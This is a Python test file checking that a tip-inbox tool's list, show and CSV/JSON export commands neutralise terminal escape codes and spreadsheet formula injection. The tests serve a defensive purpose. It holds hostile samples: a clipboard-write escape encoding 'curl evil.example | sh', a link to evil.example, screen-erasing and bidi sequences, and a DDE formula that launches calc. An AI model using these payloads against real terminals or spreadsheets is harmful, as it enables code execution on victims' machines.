"""Tip text is a stranger's: it never reaches the analyst's terminal or a spreadsheet live.

Finding 2 of the security review (escape codes in `list`/`show`) and finding 6
(CSV injection for French spreadsheets). Hostile characters go into every text
field of a tip and of a triage event; what `list`, `list --json`, `show` and
`export` (CSV and JSON) produce must hold no ESC, no other C0 control but the
newlines and tabs a layout allows, no DEL, no C1 and no bidi control.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import make_config
from tests.test_inbox_helpers import place_tip, vigie
from vigie.core import envelope
from vigie.core.storage import DirStore
from vigie.inbox import listing
from vigie.inbox.reader import Entry
from vigie.inbox.safetext import has_unsafe
from vigie.inbox.triage import Event, Triage

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# What the review used: retitle the window, erase rows, write the clipboard, a link.
ATTACKS = (
    "\x1b]0;owned\x07",
    "\r\x1b[99A\x1b[J",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b]8;;https://evil.example/\x1b\\lien\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;t\x9c",
    "\u202egnikrap\u202c",
    "\x7f\x00\x08",
)
HOSTILE = "".join(ATTACKS)
TEXT_FIELDS = ("place", "landmark", "when", "vehicles", "description")


def _no_control(text: str) -> None:
    """Nothing a terminal would execute or a reader would see reordered."""
    assert "\x1b" not in text
    assert not has_unsafe(text), [c for c in text if has_unsafe(c)]
    assert not any(c in text for c in BIDI)


hostile_text = st.text(
    alphabet=st.one_of(
        st.characters(codec="utf-8", categories=("Cc", "Cf", "Zl", "Zp")),
        st.sampled_from([*BIDI, "\x1b", "\x9b", "\x7f", "[", ";", "=", "]"]),
        st.characters(codec="utf-8"),
    ),
    min_size=1,
    max_size=40,
)


def _tip(values: dict[str, str]) -> envelope.Tip:
    fields = {"description": "-", **values}
    return envelope.Tip(
        category="spot",
        description=fields["description"],
        place=fields.get("place", ""),
        landmark=fields.get("landmark", ""),
        when=fields.get("when", ""),
        vehicles=fields.get("vehicles", ""),
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    fields=st.fixed_dictionaries({name: hostile_text for name in TEXT_FIELDS}),
    note=hostile_text,
    assignee=hostile_text,
    problem=hostile_text,
)
def test_hostile_text_in_every_field_never_reaches_the_output_live(
    fields: dict[str, str], note: str, assignee: str, problem: str
) -> None:
    tip = _tip(fields)
    entry = Entry("tips/2026-12-01/VG-0000-0000-0000.age", "VG-0000-0000-0000", "2026-12-01",
                  "ok", tip=tip)  # fmt: skip
    damaged = Entry("tips/2026-12-01/VG-1111-1111-1111.age", "VG-1111-1111-1111", "2026-12-01",
                    "damaged", problem=problem)  # fmt: skip
    event = Event("20261201T100000000000Z-00", "2026-12-01T10:00:00+00:00", "rejected", note,
                  assignee)  # fmt: skip
    state = Triage(status="rejected", assignee=assignee, events=[event])
    rows = listing.select([entry, damaged], {entry.receipt: state}, listing.Filters())
    table = listing.table(rows)
    _no_control(table)
    # One line per row: a hostile field can neither add nor erase rows.
    assert len(table.split("\n")) == 1 + len(rows) + 2
    as_json = listing.rows_json(rows)
    _no_control(as_json.replace("\n", ""))
    assert json.loads(as_json)[0]["description"] == fields["description"]  # lossless
    shown = listing.show(entry, state, None)
    _no_control(shown)
    assert shown.count("\n") == 18 + fields["description"].count("\n") + note.count("\n")


def test_cli_list_show_export_neutralise_a_hostile_tip(
    tmp_path: Path, identity: Any, identity_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Through `vigie inbox ...` itself, with the review's attacks in every field."""
    cfg = make_config(f"dir:{tmp_path / 'store'}", [str(identity.to_public())], tmp_path)
    store = DirStore(tmp_path / "store")
    genuine = [
        place_tip(
            cfg, store, _tip({"description": f"vrai n°{i}", "place": "Planoise"}), date.today()
        )
        for i in range(4)
    ]
    hostile = place_tip(cfg, store, _tip({f: HOSTILE + f for f in TEXT_FIELDS}), date.today())
    cache = tmp_path / "cache"
    conf = tmp_path / "vigie.toml"
    conf.write_text(f'[intake]\nstore = "dir:{tmp_path / "store"}"\n')
    assert vigie(capsys, "--config", conf, "inbox", "pull", "--cache", cache).code == 0
    keys = ("--cache", cache, "-i", identity_file)
    r = vigie(capsys, "--config", conf, "inbox", "list", *keys)
    assert r.code == 0
    _no_control(r.out)
    assert all(g in r.out for g in genuine) and hostile in r.out, r.out
    assert "␛]0;owned␇␍␛[99A" in r.out  # visible, not obeyed
    r = vigie(capsys, "--config", conf, "inbox", "list", *keys, "--json")
    _no_control(r.out.replace("\n", ""))
    row = next(x for x in json.loads(r.out) if x["receipt"] == hostile)
    assert row["place"] == HOSTILE + "place"
    r = vigie(capsys, "--config", conf, "inbox", "show", hostile, *keys)
    assert r.code == 0 and "\\u{202e}gnikrap\\u{202c}" in r.out
    _no_control(r.out)
    # `show --json` too (before: C1, DEL and bidi controls went out raw).
    r = vigie(capsys, "--config", conf, "inbox", "show", hostile, *keys, "--json")
    assert r.code == 0
    _no_control(r.out.replace("\n", ""))
    assert json.loads(r.out)["tip"]["place"] == HOSTILE + "place"  # lossless
    for fmt in ("csv", "json"):
        out = tmp_path / f"export.{fmt}"
        r = vigie(capsys, "--config", conf, "inbox", "export", *keys, "--format", fmt, "--out",
                  out)  # fmt: skip
        assert r.code == 0, r.err
        _no_control(out.read_text(encoding="utf-8-sig").replace("\n", ""))


def _cells(data: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize(
    "text",
    [
        "parking;=1+1;",
        "parking,=1+1,",
        'a";"=1+1";"',
        "x\n=1+1",
        "a; \t-2+3;b",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "a|=1+1",
    ],
)
def test_csv_export_never_yields_a_live_cell_for_any_separator(tmp_path: Path, text: str) -> None:
    """Finding 6: a French spreadsheet splits on `;`, an English one on `,`."""
    tip = _tip({"description": text, "place": text, "vehicles": "ok"})
    entry = Entry("tips/2026-12-01/VG-0000-0000-0000.age", "VG-0000-0000-0000", "2026-12-01",
                  "ok", tip=tip)  # fmt: skip
    rows = listing.select([entry], {}, listing.Filters())
    out = tmp_path / "x.csv"
    listing.export(rows, "csv", out, ("receipt", "place", "description", "vehicles"))
    data = out.read_bytes().decode("utf-8-sig")
    # Every field quoted (csv.QUOTE_ALL), the header included.
    assert data.startswith('"receipt","place","description","vehicles"\r\n')
    for delimiter in (",", ";", "\t", "|"):
        for cell in _cells(data, delimiter):
            assert cell.lstrip(' \t"')[:1] not in ("=", "+", "-", "@"), (delimiter, cell)
    parsed = list(csv.DictReader(io.StringIO(data)))
    assert parsed[0]["vehicles"] == "ok"
